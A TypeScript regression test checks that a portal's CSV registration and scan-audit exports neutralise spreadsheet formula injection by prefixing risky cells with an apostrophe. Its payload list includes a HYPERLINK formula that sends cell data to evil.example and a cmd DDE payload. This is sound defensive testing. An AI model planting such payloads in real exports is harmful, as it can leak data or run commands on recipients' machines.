import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDatabases } from '@portal/events/testing/databases';
import { openCsv } from '../src/testing/csv.ts';
import { portalCalls } from '../src/testing/portal-calls.ts';
import { type TestPortal, openTestPortal } from '../src/testing/test-portal.ts';

const hour = 3600_000;
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

/**
 * Exports safe to open (OWASP CSV injection): found, a member named `=HYPERLINK(...)` and a scan
 * from device `=1+2` came out as live formulas. Every cell a spreadsheet would take for a formula
 * now starts with an apostrophe, so it shows as the text that was typed.
 */
describe.each(testDatabases())('formulas in the CSV exports on $name', (database) => {
  let portal: TestPortal;
  const { call, approvedMember, courseWithRounds } = portalCalls(() => portal);
  beforeAll(async () => {
    portal = await openTestPortal(database);
  });
  afterAll(() => portal.close());
  const download = async (url: string) =>
    (await portal.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${portal.adminToken}` } })).body;

  it('neutralises every formula prefix in the registration export', async () => {
    for (const name of FORMULAS.filter((formula) => !/^[\t\r]/.test(formula))) await approvedMember(name);
    const { header, rows } = openCsv(await download('/api/admin/registration/export.csv'));
    const names = rows.map((row) => row[header.indexOf('Name')]);
    for (const formula of FORMULAS.filter((f) => !/^[\t\r]/.test(f))) expect(names).toContain(`'${formula}`);
    for (const row of rows) {
      for (const cell of row)
        expect(cell, `a cell a spreadsheet would run: ${cell}`).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
  });

  it('neutralises formulas in the scan audit export, device ids and typed ids included', async () => {
    const teacher = portal.adminToken;
    const course = await courseWithRounds(teacher, [[-hour, hour]], 'Formulas');
    for (const formula of FORMULAS) {
      await call('PUT', `/api/admin/updateround/${course.rounds[0]}`, teacher, {
        userId: 'nobody-at-all',
        deviceId: formula.replace(/[\t\r]/g, ''),
      });
    }
    const { header, rows } = openCsv(await download(`/api/admin/audit/scans.csv?roundId=${course.rounds[0]}`));
    const devices = rows.map((row) => row[header.indexOf('Device')]);
    expect(devices).toContain(`'=1+1`);
    expect(devices).toContain(`'@SUM(1+1)`);
    for (const row of rows) {
      for (const cell of row)
        expect(cell, `a cell a spreadsheet would run: ${cell}`).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
  });
});
